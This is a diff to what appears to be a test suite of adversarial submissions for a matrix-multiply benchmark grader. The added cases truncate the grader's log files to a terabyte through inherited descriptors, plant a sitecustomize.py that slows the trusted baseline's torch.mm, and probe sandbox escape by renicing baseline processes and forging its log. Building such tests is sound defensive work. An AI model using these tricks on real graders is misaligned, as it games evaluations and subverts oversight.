@@ -64,13 +64,22 @@ def grows_its_log_then_dies(A, B, C, M, N, K):
 def grows_the_vendor_log(A, B, C, M, N, K):
     """Honest, but makes vendor_guard's log and counter files (which the grader reads after every trial) a terabyte
     long, sparse: a grader that read them whole raised MemoryError. Notes what it grew in ``grown``."""
+    inherited = {}  # path -> a descriptor of the library's own, opened before any Landlock domain
+    for fd in os.listdir("/proc/self/fd"):
+        try:
+            inherited.setdefault(os.readlink(f"/proc/self/fd/{fd}"), int(fd))
+        except OSError:
+            pass
     for var in ("GEMMLAB_VENDOR_LOG", "GEMMLAB_VENDOR_COUNTS"):
         path = os.environ.get(var)
         if path and not _state.get(var):
+            _state[var] = True
             try:
-                with open(path, "ab") as f:
-                    os.ftruncate(f.fileno(), 1 << 40)
-                _state[var] = True
+                if path in inherited:
+                    os.ftruncate(inherited[path], 1 << 40)
+                else:
+                    with open(path, "ab") as f:
+                        os.ftruncate(f.fileno(), 1 << 40)
                 _note("grown", var)
             except OSError as e:
                 _note("grown", f"{var} refused: {e.strerror}")
@@ -127,3 +136,93 @@ def works_before_window(A, B, C, M, N, K):
     deadline = time.monotonic() + 10
     while c.isnan().any() and time.monotonic() < deadline:
         time.sleep(0.00005)
+
+
+_SITECUSTOMIZE = '''
+import time
+import torch
+_mm = torch.mm
+def _slow_mm(*args, **kw):  # the baseline worker's torch.mm, 20 ms slower a call
+    time.sleep(0.02)
+    return _mm(*args, **kw)
+torch.mm = _slow_mm
+'''
+
+
+def writes_code_for_the_baseline(A, B, C, M, N, K):
+    """Honest, but at its first call (before the baseline's worker has even started: it starts once the first case
+    passed) writes a sitecustomize.py that slows torch.mm by 20 ms into $BAD_PATH_DIR, a directory on the grader's
+    PYTHONPATH (in a real setup: the venv's site-packages, the user site, gemmlab's own tree or its __pycache__, all
+    the grader's user can write). Python runs it in every interpreter it starts: the baseline's worker (trusted) calls
+    the slow torch.mm. Notes ``written`` or ``refused`` in ``sitecustomize``."""
+    if not _state.get("planted"):
+        _state["planted"] = True
+        try:
+            with open(os.path.join(os.environ["BAD_PATH_DIR"], "sitecustomize.py"), "w") as f:
+                f.write(_SITECUSTOMIZE)
+            _note("sitecustomize", "written")
+        except OSError as e:
+            _note("sitecustomize", f"refused: {e.strerror}")
+    honest(A, B, C, M, N, K)
+
+
+def _baseline_pids() -> list[int]:
+    """The processes of the other sandbox (the baseline's keeper and server): keepers outside this session."""
+    me, keepers = os.getsid(0), set()
+    table = {}
+    for d in os.listdir("/proc"):
+        if not d.isdigit():
+            continue
+        try:
+            cmd = open(f"/proc/{d}/cmdline", "rb").read()
+            table[int(d)] = int(open(f"/proc/{d}/stat").read().rsplit(")", 1)[1].split()[1])
+            if b"sandbox/keeper.py" in cmd and os.getsid(int(d)) != me:
+                keepers.add(int(d))
+        except (OSError, ValueError, IndexError):
+            pass
+    return sorted(keepers | {p for p, pp in table.items() if pp in keepers})
+
+
+def reaches_outside_by_files(A, B, C, M, N, K):
+    """Honest; in its timed calls, tries what a file write can do outside its sandbox, and notes each in
+    ``files.json`` (true: done): set the baseline's autogroup to nice 19 (/proc/PID/autogroup: no signal, no ptrace,
+    not a thread's nice value), write into the grader's log directory (the baseline's log, which the grader quotes),
+    create a file in $BAD_PATH_DIR (a directory on the baseline's Python path)."""
+    import json
+    import sys
+
+    honest(A, B, C, M, N, K)
+    if not any(f.f_code.co_name == "time_calls" for f in _frames(sys._getframe())):
+        return
+    if _state.get("probed"):  # the autogroup again in every timed call (what a real attack does); noted once
+        for pid in _baseline_pids():
+            try:
+                with open(f"/proc/{pid}/autogroup", "w") as f:
+                    f.write("19")
+            except OSError:
+                pass
+        return
+    _state["probed"] = True
+    found = {}
+
+    def probe(name, path, text, mode="a"):
+        try:
+            with open(path, mode) as f:
+                f.write(text)
+            found[name] = True
+        except OSError as e:
+            found[name] = f"{type(e).__name__}: {e.strerror}"
+    log_dir = os.path.dirname(os.readlink("/proc/self/fd/1"))
+    for pid in _baseline_pids():
+        probe(f"autogroup {pid}", f"/proc/{pid}/autogroup", "19", "w")
+    probe("log_dir", os.path.join(log_dir, "baseline.log"), "forged\n")
+    if os.environ.get("BAD_PATH_DIR"):
+        probe("python_path", os.path.join(os.environ["BAD_PATH_DIR"], "planted.py"), "")
+    with open(_out("files.json"), "w") as f:
+        json.dump(found, f)
+
+
+def _frames(f):
+    while f is not None:
+        yield f
+        f = f.f_back
